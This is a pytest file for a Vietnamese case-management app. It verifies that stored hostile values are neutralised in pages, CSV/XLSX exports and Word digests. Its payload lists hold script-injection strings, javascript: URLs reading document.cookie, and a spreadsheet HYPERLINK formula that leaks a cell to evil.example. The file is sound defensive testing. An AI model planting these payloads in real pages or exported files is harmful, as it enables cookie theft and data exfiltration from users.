"""Hostile payloads stored in records come out of pages, exports and Word files harmless (issue: hardening)."""

import csv
import datetime as dt
import io

import pytest
from docx import Document as WordDocument
from openpyxl import load_workbook

from canhgiac.content.models import ContentItem
from canhgiac.core.safety import safe_url, spreadsheet_cell
from canhgiac.core.testing import login
from tests.cases.helpers import make_case

PAYLOADS = [
    "<script>alert('x')</script>",
    '<img src=x onerror="alert(1)">',
    '=HYPERLINK("http://evil.example/?leak="&B2,"Xem")',
    "+SUM(1,2)",
    "@cmd",
    "-2+3",
    "tên\x01có\x0bký tự điều khiển",
    "\u202egnp.exe",
]


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("javascript:alert(document.cookie)", ""),
        ("JaVaScRiPt:alert(1)", ""),
        ("data:text/html,<script>alert(1)</script>", ""),
        ("vbscript:msgbox", ""),
        ("java\nscript:alert(1)", ""),
        ("https://new88.com/x", "https://new88.com/x"),
        ("mailto:a@b.vn", "mailto:a@b.vn"),
        ("/cases/1/", "/cases/1/"),
        ("//evil.example/", ""),
    ],
)
def test_only_safe_schemes_become_links(value, expected):
    assert safe_url(value) == expected


def test_cells_keep_numbers_and_neutralise_formulas():
    assert spreadsheet_cell("=1+1") == "'=1+1"
    assert spreadsheet_cell("\t=1") == "'\t=1"
    assert spreadsheet_cell("-5") == "-5" and spreadsheet_cell(25_850_000) == 25_850_000
    assert spreadsheet_cell("a\x01b") == "ab"


def test_hostile_titles_are_harmless_in_pages_exports_and_history(world, client):
    cases = [make_case(world, title=payload, description=payload * 3) for payload in PAYLOADS]
    cases.append(make_case(world, title="x" * 300, description="y" * 1_000_000))  # 1 MB of text
    login(client, world.user("inspector"))
    for url in ["/cases/", f"/cases/{cases[0].pk}/", f"/cases/{cases[1].pk}/history/", f"/cases/{cases[-1].pk}/"]:
        page = client.get(url)
        assert page.status_code == 200
        text = page.content.decode()
        assert "<script>alert('x')</script>" not in text and "<img src=x onerror" not in text
    rows = list(csv.reader(io.StringIO(client.get("/cases/?_export=csv").content.decode("utf-8-sig"))))
    sheet = load_workbook(io.BytesIO(client.get("/cases/?_export=xlsx").content)).active
    cells = [c.value for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
    texts = [cell for row in rows for cell in row]
    for exported in (cells, texts):
        assert not any(v.startswith(("=", "+", "@")) for v in exported), exported
        assert '\'=HYPERLINK("http://evil.example/?leak="&B2,"Xem")' in exported
        assert "têncóký tự điều khiển" in exported


def test_javascript_url_of_a_content_item_is_not_a_link(world, client):
    item = ContentItem.objects.create(
        platform="facebook",
        url="javascript:alert(document.cookie)",
        text="Nhà cái uy tín",
        text_hash="h",
        label="gambling",
        risk=0.9,
        published_at=dt.datetime(2026, 11, 20, tzinfo=dt.UTC),
    )
    login(client, world.user("inspector"))
    for url in (item.get_absolute_url(), "/content/items/", "/content/digest/?start=2026-11-20&end=2026-11-20"):
        page = client.get(url).content.decode()
        assert 'href="javascript:' not in page, url


def test_control_characters_do_not_break_the_digest_word_file(world, client):
    ContentItem.objects.create(
        platform="facebook",
        url="https://fb.example/1",
        text="Nhà cái\x0b uy tín\x01 nạp 50k",
        text_hash="h2",
        label="gambling",
        risk=0.95,
        published_at=dt.datetime(2026, 11, 20, 3, tzinfo=dt.UTC),
    )
    login(client, world.user("inspector"))
    response = client.get("/content/digest/docx/?start=2026-11-20&end=2026-11-20")
    assert response.status_code == 200
    text = "\n".join(p.text for p in WordDocument(io.BytesIO(response.content)).paragraphs)
    cells = " ".join(c.text for t in WordDocument(io.BytesIO(response.content)).tables for r in t.rows for c in r.cells)
    assert "Nhà cái uy tín nạp 50k" in text + cells


def test_xlsx_export_has_typed_cells_and_a_dated_file_name(world, client):
    from django.utils import timezone

    make_case(world, title="Giả danh công an", damage_vnd=25_850_000, received_on=dt.date(2024, 3, 4))
    login(client, world.user("inspector"))
    response = client.get("/cases/?_export=xlsx")
    assert f'filename="vu-viec_{timezone.localdate():%Y-%m-%d}.xlsx"' in response["Content-Disposition"]
    sheet = load_workbook(io.BytesIO(response.content)).active
    headers = [c.value for c in sheet[1]]
    row = {h: c for h, c in zip(headers, sheet[2], strict=True)}
    date_cell = row["Ngày tiếp nhận"]
    money = next(c for h, c in row.items() if h.startswith("Thiệt hại"))
    assert date_cell.value.date() == dt.date(2024, 3, 4) and date_cell.number_format == "DD/MM/YYYY"
    assert money.value == 25_850_000 and money.number_format == "#,##0"
    csv_rows = list(csv.reader(io.StringIO(client.get("/cases/?_export=csv").content.decode("utf-8-sig"))))
    assert "04/03/2024" in csv_rows[1] and "25850000" in csv_rows[1]
    assert "25.850.000 đồng" in client.get("/cases/").content.decode()


def test_sizes_read_the_vietnamese_way():
    from canhgiac.core.templatetags.labels import filesize_vi, vnd

    assert (filesize_vi(18581), filesize_vi(512), filesize_vi(5 * 2**20)) == ("18,1 KB", "512 byte", "5,0 MB")
    assert vnd(1237) == "1.237" and vnd(None) == ""
